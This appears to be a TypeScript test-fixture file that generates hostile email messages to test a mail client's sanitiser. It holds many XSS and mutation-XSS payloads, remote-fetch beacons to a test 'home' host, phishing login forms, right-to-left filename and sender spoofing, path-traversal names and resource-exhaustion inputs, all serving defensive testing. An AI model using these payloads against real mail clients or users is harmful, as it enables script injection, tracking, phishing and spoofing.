/** Letters that try to run, to call home, to be taken for something else, or to be too much. */

export interface Hostile {
  /** The name, and also the subject, unless the header says otherwise. */
  name: string;
  /** The header fields beyond those every letter has, and the body. */
  header?: string[];
  body: Buffer;
  /** The text that must still be readable, if any can. */
  shows?: string;
}

export const html = (name: string, markup: string, shows?: string): Hostile => ({
  name,
  header: ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64'],
  body: wrapped(Buffer.from(markup)),
  shows,
});

/** RFC 2045 §6.8. */
function wrapped(content: Buffer): Buffer {
  return Buffer.from(content.toString('base64').replace(/.{76}/g, '$&\r\n'));
}

/** Returns all of them; any request to `home` has got through, and so has `owned` in a title. */
export function collection(home: string): Hostile[] {
  const run = `document.title='owned';new Image().src='${home}/run';top.document.title='owned';parent.postMessage('owned','*')`;
  const url = (name: string): string => `${home}/${name}`;
  return [...scripts(run), ...calls(url), ...styles(url), ...forms(url), ...disguises(), ...excesses(run)];
}

function scripts(run: string): Hostile[] {
  const encoded = Buffer.from(`<script>${run}</script>`).toString('base64');
  const svg = (inside: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;
  return [
    html(
      'script elements',
      `<script>${run}</script><SCRIPT\n>${run}</SCRIPT/x><script src="data:,${run}"></script>seen`,
      'seen',
    ),
    html(
      'handlers',
      `<img src=x onerror="${run}"><body onload="${run}"><div onmouseover="${run}" onpointerenter="${run}">seen</div>` +
        `<details open ontoggle="${run}"><summary>more</summary></details><video onerror="${run}" src=x></video>` +
        `<marquee onstart="${run}">m</marquee><a href=# onclick="${run}" id=press>press</a><svg onload="${run}"></svg>` +
        `<input autofocus onfocus="${run}"><div style="animation:x" onanimationstart="${run}"></div>`,
      'seen',
    ),
    html(
      'script addresses',
      [
        'javascript:',
        'JaVaScRiPt:',
        '&#106;avascript:',
        'java\tscript:',
        ' \u0001javascript:',
        'vbscript:',
        'data:text/html;base64,',
      ]
        .map(
          (scheme) => `<a class=trap href="${scheme}${scheme.startsWith('data') ? encoded : run}">trap</a>`,
        )
        .join(' '),
      'trap',
    ),
    html(
      'pictures that are documents',
      svg(`<script>${run}</script>`) +
        `<img src="data:image/svg+xml;base64,${Buffer.from(svg(`<script>${run}</script>`)).toString('base64')}">` +
        `<object data="data:text/html;base64,${encoded}"></object><embed src="data:text/html;base64,${encoded}">seen`,
      'seen',
    ),
    html(
      'svg that moves and holds',
      svg(
        `<a><animate attributeName=href values="javascript:${run}"/><text y=20>svg</text></a>` +
          `<foreignObject><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe></foreignObject>` +
          `<use href="data:image/svg+xml;base64,${encoded}#x"/><set attributeName=onload to="${run}"/>`,
      ) + '<p>seen</p>',
      'seen',
    ),
    html(
      'markup that changes when it is read twice',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run.replaceAll('"', '')}&gt;"></table></mtext></math>` +
        `<svg></p><style><a id="</style><img src=1 onerror='${run.replaceAll("'", '`')}'>"></svg>` +
        `<noscript><p title="</noscript><img src=x onerror=${run.replaceAll('"', '')}>"></noscript>` +
        `<form><math><mtext></form><form><mglyph><style></math><img src onerror=1></style></mglyph></form>` +
        `<template><script>${run}</script></template><xmp><p title="</xmp><img src onerror='1'>"></xmp><p>seen</p>`,
      // Nobody can guess what remains of it.
      undefined,
    ),
    html(
      'frames',
      `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frameset onload="${run}"><frame src="javascript:${run}"></frameset><p>seen`,
      '',
    ),
    html(
      'names that hide ours',
      '<form id=body><input name=attributes></form><img name=getElementById><a id=document name=cookie href="x:y">named</a><p>seen</p>',
      'seen',
    ),
  ];
}

function calls(url: (name: string) => string): Hostile[] {
  const elements = [
    `<img src="${url('img')}" width=1 height=1>`,
    `<img srcset="${url('srcset')} 2x" lowsrc="${url('lowsrc')}" dynsrc="${url('dynsrc')}">`,
    `<picture><source srcset="${url('source')}"><img alt=""></picture>`,
    `<input type=image src="${url('input')}">`,
    `<video src="${url('video')}" poster="${url('poster')}" autoplay></video><audio src="${url('audio')}" autoplay></audio>`,
    `<video><track default src="${url('track')}"></video>`,
    `<link rel=stylesheet href="${url('link')}"><link rel=prefetch href="${url('prefetch')}"><link rel=preload as=image href="${url('preload')}">`,
    `<link rel=dns-prefetch href="${url('dns')}"><link rel=preconnect href="${url('preconnect')}"><link rel=icon href="${url('icon')}">`,
    `<object data="${url('object')}"></object><embed src="${url('embed')}"><applet code="${url('applet')}"></applet>`,
    `<iframe src="${url('iframe')}"></iframe><frameset><frame src="${url('frame')}"></frameset>`,
    `<table background="${url('table')}"><tr><td background="${url('td')}">x</td></tr></table>`,
    `<svg><image href="${url('svg-image')}"/><use href="${url('svg-use')}#a"/></svg>`,
    `<math href="${url('math')}"><mi xlink:href="${url('mi')}">x</mi></math>`,
    `<script src="${url('script')}"></script><bgsound src="${url('bgsound')}"><img src="//${url('slashes').slice(7)}">`,
    `<body background="${url('body')}"><p>seen</p>`,
  ];
  return [
    html('tracking pixels', elements.join('\n'), 'seen'),
    html(
      'meta refresh',
      `<meta http-equiv=refresh content="0;url=${url('refresh')}"><META HTTP-EQUIV="Refresh" CONTENT="0; URL='${url('refresh2')}'"><p>seen</p>`,
      'seen',
    ),
    html(
      'base',
      `<base href="${url('base')}/"><img src="relative"><a href="relative">link</a><p>seen</p>`,
      'seen',
    ),
    html('ping', `<a id=press ping="${url('ping')}" href="#here" target=_top>press</a><p>seen</p>`, 'seen'),
    html(
      'policy of its own',
      `<meta http-equiv=Content-Security-Policy content="img-src *; script-src 'unsafe-inline'"><meta http-equiv=Set-Cookie content="a=b"><img src="${url('own-policy')}"><p>seen</p>`,
      'seen',
    ),
  ];
}

function styles(url: (name: string) => string): Hostile[] {
  const declarations = [
    `background:url(${url('css-url')})`,
    `background-image:u\\72l("${url('css-escape')}")`,
    `background:image-set("${url('css-set')}" 1x)`,
    `background:-webkit-image-set(url(${url('css-webkit-set')}) 1x)`,
    `list-style-image:url('${url('css-list')}')`,
    `content:url(${url('css-content')})`,
    `cursor:url(${url('css-cursor')}),auto`,
    `mask:url(${url('css-mask')})`,
    `filter:url(${url('css-filter')}#f)`,
    `border-image:url(${url('css-border')})`,
    `shape-outside:url(${url('css-shape')})`,
    `background:url(/**/${url('css-comment')})`,
    `--x:url(${url('css-variable')});background:var(--x)`,
    `behavior:url(${url('css-behavior')});-moz-binding:url(${url('css-binding')}#x)`,
    `width:expression(new Image().src='${url('css-expression')}')`,
  ];
  const sheet = [
    `@import url(${url('css-import')});@import "${url('css-import-text')}";`,
    `@font-face{font-family:x;src:url(${url('css-font')})}`,
    `@namespace url(${url('css-namespace')});@page{background:url(${url('css-page')})}`,
    ...declarations.map((one, number) => `.c${number},.c${number}::before{${one}}`),
    `body::after{content:url(${url('css-after')})}`,
    `a[href^="h"]{background:url(${url('css-attribute')})}`,
    `@media screen{p{background:url(${url('css-media')})}}@supports (color:red){p{background:url(${url('css-supports')})}}`,
    `p{color:red}</style><img src="${url('css-break')}">`,
  ];
  const elements = declarations.map(
    (one, number) => `<p class="c${number}" style="${one.replaceAll('"', "'")}">x</p>`,
  );
  return [
    html('styles that fetch', `<style>${sheet.join('\n')}</style>${elements.join('')}<p>seen</p>`, 'seen'),
    html(
      'styles that cover',
      '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">seen</div>' +
        '<style>html,body{position:fixed;top:-999px;width:99999px;height:99999px}*{animation:a .01s infinite}@keyframes a{to{transform:scale(99)}}</style>',
      'seen',
    ),
  ];
}

function forms(url: (name: string) => string): Hostile[] {
  return [
    html(
      'forms',
      `<form action="${url('form')}" method=post><input name=password type=password autofocus><button id=press formaction="${url('formaction')}">Log in</button></form>` +
        `<form id=f action="${url('form2')}"></form><input form=f type=submit value=Go><isindex action="${url('isindex')}"><keygen><p>seen</p>`,
      'seen',
    ),
    html(
      'dialogs',
      `<dialog open>Your session has ended. <a href="${url('phish')}">Log in</a></dialog><div popover id=p>p</div><button popovertarget=p>p</button><p>seen</p>`,
      'seen',
    ),
  ];
}

function disguises(): Hostile[] {
  const word = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
  const attached = (name: string): Hostile => ({
    name: 'names of files',
    header: ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=x'],
    body: Buffer.from(
      `--x\r\nContent-Type: text/plain\r\n\r\nseen\r\n` +
        [
          name,
          '../../etc/passwd',
          'a\\..\\b.txt',
          '<img src=x onerror=1>.txt',
          'x'.repeat(4_000),
          'CON',
          '.bashrc',
          'a;b=c.txt',
        ]
          .map(
            (one) =>
              `--x\r\nContent-Type: text/html; name="${word(one)}"\r\nContent-Disposition: attachment;\r\n filename="${word(one)}"\r\n\r\n<script>document.title='owned'</script>\r\n`,
          )
          .join('') +
        '--x--\r\n',
    ),
    shows: 'seen',
  });
  const charset = (label: string, bytes: Buffer, shows: string): Hostile => ({
    name: `charset ${label}`,
    header: [`Content-Type: text/plain; charset=${label}`, 'Content-Transfer-Encoding: base64'],
    body: wrapped(bytes),
    shows,
  });
  const latin = Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20, 0x73, 0x65, 0x65, 0x6e]);
  return [
    attached('invoice\u202Egpj.exe'),
    html(
      'letters that turn round',
      `\u202E\u2066\u2067seen\u0000\u200B\u200D\uFEFF\uFFFE${'\u0300\u0489'.repeat(5_000)}`,
      undefined,
    ),
    {
      name: 'who it is from',
      header: [
        `From: ${word('"alice@alpha.test" <alice@alpha.test>\u202E')} <eve@evil.test>`,
        `Subject: ${word('who it is from <script>document.title="owned"</script>\u0000')}`,
        'Content-Type: text/plain',
      ],
      body: Buffer.from('seen\r\n'),
      shows: 'seen',
    },
    {
      name: 'a header without end',
      header: [
        `To: ${Array.from({ length: 3_000 }, (_, n) => `p${n}@many.test`).join(',\r\n ')}`,
        `Subject: a header without end ${'long'.repeat(2_000)}`,
        'Content-Type: text/plain',
      ],
      body: Buffer.from('seen\r\n'),
      shows: 'seen',
    },
    charset('utf-8', latin, 'seen'),
    charset('us-ascii', latin, 'seen'),
    charset('x-klingon', latin, 'seen'),
    charset('iso-2022-jp', Buffer.from('\x1b$B$3$s$K$A$O\x1b(B seen'), 'こんにちは'),
    charset('utf-16', Buffer.from('seen \ufeff', 'utf16le'), ''),
    charset(
      'gb18030',
      Buffer.from([0xc4, 0xe3, 0xba, 0xc3, 0x20, 0x73, 0x65, 0x65, 0x6e, 0xff, 0x81]),
      '你好',
    ),
    // A charset hides the tags from a reader of the octets.
    {
      ...html('charset utf-7', ''),
      header: ['Content-Type: text/html; charset=utf-7'],
      body: Buffer.from("+ADw-script+AD4-document.title='owned'+ADw-/script+AD4-<p>seen</p>\r\n"),
      shows: 'seen',
    },
    {
      ...html('charset in the markup', ''),
      header: ['Content-Type: text/html'],
      body: Buffer.from('<meta charset=utf-7><meta charset=x-user-defined><p>+ADw-script+AD4- seen</p>\r\n'),
      shows: 'seen',
    },
    {
      name: 'a kind that is none',
      header: ['Content-Type: text/html; charset="; boundary=', 'Content-Transfer-Encoding: x-made-up'],
      body: Buffer.from("<script>document.title='owned'</script><p>seen</p>\r\n"),
    },
  ];
}

function excesses(run: string): Hostile[] {
  const row = '<tr><td style="color:red">row of a very long table</td></tr>\n';
  const large = 20 << 20;
  return [
    html(
      'twenty megabytes',
      `<p>seen</p><table>${row.repeat(Math.ceil(large / row.length))}</table><script>${run}</script>`,
      'seen',
    ),
    html('a line of twenty megabytes', `seen ${'a'.repeat(large)}`, undefined),
    html('deep', `${'<div>'.repeat(100_000)}seen`, 'seen'),
    html('deep tables', `${'<table><tr><td>'.repeat(20_000)}seen`, 'seen'),
    html('open everywhere', `${'<b><i><a href=x:>'.repeat(20_000)}${'<p>'.repeat(2_000)}seen`, 'seen'),
    html(
      'many attributes',
      `<p ${Array.from({ length: 100_000 }, (_, n) => `a${n}=b`).join(' ')}>seen</p>`,
      'seen',
    ),
    html('entities', `<p>seen ${'&amp;&lt;&#x10FFFF;&NotAnEntity;'.repeat(100_000)}</p>`, 'seen'),
    // Many fonts take turns.
    {
      ...html('many scripts in text', ''),
      header: ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64'],
      body: wrapped(Buffer.from(`seen ${'a\u4e2d\u0378'.repeat(200_000)}`)),
      shows: 'seen',
    },
    html('many scripts', `<p>seen ${'a\u4e2d\u0378 '.repeat(200_000)}</p>`, 'seen'),
    html(
      'selectors that look far',
      `<style>${':nth-child(99999n+7777) ~ * {color:red} p:has(~ * p) {color:red}\n'.repeat(500)}</style>${'<p>x</p>'.repeat(5_000)}seen`,
      'seen',
    ),
    html(
      'rules without end',
      `<style>${'p{color:red}\n'.repeat(40_000)}</style>seen${'<p>x</p>'.repeat(50_000)}`,
      'seen',
    ),
    html(
      'heavy selectors',
      `<style>${'* * * * * > * ~ * + * :not(* *) {color:red}\n'.repeat(3_000)}</style>${'<div><p>x</p></div>'.repeat(3_000)}seen`,
      'seen',
    ),
    {
      name: 'parts in parts',
      header: ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b0'],
      body: Buffer.from(
        Array.from(
          { length: 2_000 },
          (_, n) => `--b${n}\r\nContent-Type: multipart/mixed; boundary=b${n + 1}\r\n\r\n`,
        ).join('') + '--b2000\r\n\r\nseen\r\n',
      ),
    },
  ];
}

/** Writes the whole letter. */
export function written({ name, header = [], body }: Hostile, to: string): Buffer {
  const has = (field: string): boolean => header.some((one) => one.startsWith(`${field}:`));
  const fields = [
    ...(has('From') ? [] : ['From: Eve <eve@evil.test>']),
    ...(has('To') ? [] : [`To: ${to}`]),
    ...(has('Subject') ? [] : [`Subject: ${name}`]),
    `Message-ID: <${name.replace(/\W/g, '-')}@evil.test>`,
    ...header,
  ];
  return Buffer.concat([Buffer.from(`${fields.join('\r\n')}\r\n\r\n`), body]);
}
